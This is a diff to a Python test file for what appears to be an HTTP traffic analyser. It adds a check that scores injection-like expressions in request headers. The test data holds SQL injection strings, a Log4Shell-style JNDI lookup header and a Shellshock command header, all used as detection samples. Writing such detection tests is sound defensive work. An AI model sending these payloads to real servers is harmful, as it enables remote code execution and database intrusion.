@@ -39,12 +39,19 @@ def oracle(segments):
         if begins:
             found["http_requests"] += 1
             line = re.split(rb"[\r\n]", text)[0][begins.end() - 2 :]
-            _, _, body = text.partition(b"\r\n\r\n")
+            head, blank, body = text.partition(b"\r\n\r\n")
+            lured = lure(text, len(re.split(rb"[\r\n]", text)[0]), len(head + blank) if blank else len(text))
             body = b"" if body.startswith(b"--") else re.match(rb"[ -~]*", body).group()
-            found["http_signs"] = max(found["http_signs"], count(line[:512]) + count(body[:512]))
+            found["http_signs"] = max(found["http_signs"], count(line[:512]) + count(body[:512]) + lured)
         if begins or found["http_open"]:
             found["http_open"] = int(b"\r\n\r\n" not in text)
     return found
+
+
+def lure(text, begin, end):
+    """Signs behind what begins an expression in the headers."""
+    found = re.search(rb"\$\{|\(\) \{", text[begin : max(end - 2, begin)])
+    return count(text[begin + found.start() :][:160]) if found and begin + found.start() < end - 3 else 0
 
 
 def count(text):
@@ -56,6 +63,8 @@ SEGMENTS = [
     b"GET /?id=1'+UNION+SELECT+1--+ HTTP/1.1\r\n\r\n",
     b"POST /login HTTP/1.1\r\nContent-Length: 9\r\n\r\nuser='+or+1=1",
     b"POST /up HTTP/1.1\r\n\r\n--x\r\n'|--",
+    b"GET / HTTP/1.1\r\nX-Api: ${jndi:ldap://a/b}\r\nAccept: a\r\n\r\n",
+    b"GET /cgi HTTP/1.1\r\nUser-Agent: () { :;}; /bin/id\r\n\r\nx",
     b"GET /slow HTTP/1.1\r\nX-a: ",
     b"b\r\nX-b: c\r\n",
     b"\r\n\r\n",
@@ -75,7 +84,7 @@ def test_segments_are_counted_as_a_plain_reader_would(segments):
 
 
 def test_requests_within_one_connection():
-    page, missing = SEGMENTS[0], SEGMENTS[10]
+    page, missing = SEGMENTS[0], b"HTTP/1.1 404 Not Found\r\n\r\n"
     assert facts([(True, page), (False, missing)] * 5)["http_requests"] == 5
     assert facts([(True, page), (False, missing)] * 5)["http_refused"] == 5
 
@@ -83,3 +92,9 @@ def test_requests_within_one_connection():
 def test_a_head_that_was_cut_by_the_capture_counts_as_ended():
     whole = conversation([(True, b"GET /slow HTTP/1.1\r\nX-a: " + b"b" * 60)])
     assert meter_of(whole).table.flows[0]["http_open"] == 1
+
+
+def test_expressions_in_headers_are_signs_and_other_headers_are_none():
+    assert facts([(True, SEGMENTS[4])])["http_signs"] >= 3
+    assert facts([(True, SEGMENTS[5])])["http_signs"] >= 3
+    assert facts([(True, b"GET / HTTP/1.1\r\nX-Price: $5 (net) {a}\r\n\r\n")])["http_signs"] == 0
